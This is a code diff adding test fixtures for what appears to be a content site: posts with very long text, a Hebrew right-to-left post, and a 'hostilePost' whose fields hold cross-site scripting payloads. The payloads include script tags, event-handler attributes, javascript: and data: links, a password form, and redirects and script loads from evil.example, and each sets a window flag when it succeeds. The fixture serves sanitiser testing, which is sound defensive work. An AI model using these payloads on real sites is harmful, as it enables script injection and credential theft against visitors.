@@ -131,6 +131,20 @@ export const longTools: RawRecord[] = [
   screenshots: ['/missing/screenshot-1.png', '/missing/screenshot-2.png'],
 }));
 
+/** A title of 300 characters without a space, one with spaces, and long texts in every field. */
+export const longPosts: RawRecord[] = ['W'.repeat(300), longText.slice(0, 300)].map((title, index) => ({
+  _id: `long-post-${index}`,
+  title,
+  slug: `long-${index}`,
+  excerpt: longText,
+  content: `<h2>${longWord}</h2><p>${longText}</p><pre>${longText}</pre><p>${longWord.repeat(3)}</p><table><tr>${`<td>${longWord}</td>`.repeat(9)}</tr></table>`,
+  category: longText.slice(0, 90),
+  tags: [longWord, longText.slice(0, 90)],
+  author: longText.slice(0, 90),
+  publishedAt: `2026-01-0${index + 1}T00:00:00.000Z`,
+  featured: true,
+}));
+
 export const soundTools: RawRecord[] = Array.from({ length: 40 }, (_, index) => soundTool(index + 1));
 
 export const soundPosts: RawRecord[] = Array.from({ length: 6 }, (_, index) => ({
@@ -143,3 +157,48 @@ export const soundPosts: RawRecord[] = Array.from({ length: 6 }, (_, index) => (
   tags: ['made-up'],
   publishedAt: `2026-01-0${index + 1}T00:00:00.000Z`,
 }));
+
+/** An article that tries what articles try; `hacked...` on the window tells which attempt has worked. */
+export const hostilePost: RawRecord = {
+  _id: 'hostile',
+  title: 'Hostile',
+  slug: 'hostile',
+  excerpt: '<img src=x onerror="window.hackedExcerpt=1">',
+  category: '<script>window.hackedCategory=1</script>',
+  tags: ['"><script>window.hackedTag=1</script>'],
+  publishedAt: '2026-01-05T00:00:00.000Z',
+  coverImage: 'javascript:window.hackedCover=1',
+  content: [
+    '<script>window.hackedScript=1</script>',
+    '<script src="https://evil.example/run.js"></script>',
+    '<p>Start</p><img src="/not-there.png" alt="" onerror="window.hackedImage=1">',
+    '<svg onload="window.hackedSvg=1"><script>window.hackedSvgScript=1</script></svg>',
+    '<math><mtext><table><mglyph><style><img src onerror="window.hackedMath=1"></style></mglyph></table></mtext></math>',
+    '<iframe src="https://evil.example/"></iframe>',
+    '<iframe srcdoc="<script>parent.hackedFrame=1</script>"></iframe>',
+    '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
+    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<link rel="stylesheet" href="https://evil.example/style.css"><style>header { display: none }</style>',
+    '<form action="https://evil.example/"><input name="password"><button formaction="javascript:window.hackedForm=1">Go</button></form>',
+    '<p><a href="javascript:window.hackedLink=1">Press me</a></p>',
+    '<a href="data:text/html,<script>window.hackedData=1</script>">Data</a>',
+    '<details open ontoggle="window.hackedToggle=1"><summary>More</summary>Text</details>',
+    '<video autoplay onloadstart="window.hackedVideo=1"><source src="/not-there.mp4" onerror="window.hackedSource=1"></video>',
+    '<div id="main" style="position:fixed;inset:0;z-index:9999;background:red">Over the page</div>',
+    '<p>The end of the hostile text.</p>',
+  ].join('\n'),
+};
+
+/** An article in Hebrew, with a title of two lines. */
+export const rightToLeftPost: RawRecord = {
+  _id: 'rtl',
+  title: 'כלים של בינה מלאכותית לעבודה היומיומית במשרד',
+  slug: 'rtl',
+  excerpt: 'סקירה קצרה של הכלים.',
+  category: 'Tools Roundup',
+  tags: ['עברית'],
+  publishedAt: '2026-01-05T00:00:00.000Z',
+  content:
+    '<p>זוהי הפסקה הראשונה של המאמר.</p><ul><li>כלי ראשון</li><li>כלי שני</li></ul><blockquote>ציטוט</blockquote>' +
+    '<table><tr><th>שם</th><th>מחיר</th></tr><tr><td>אחד</td><td>10</td></tr></table>',
+};
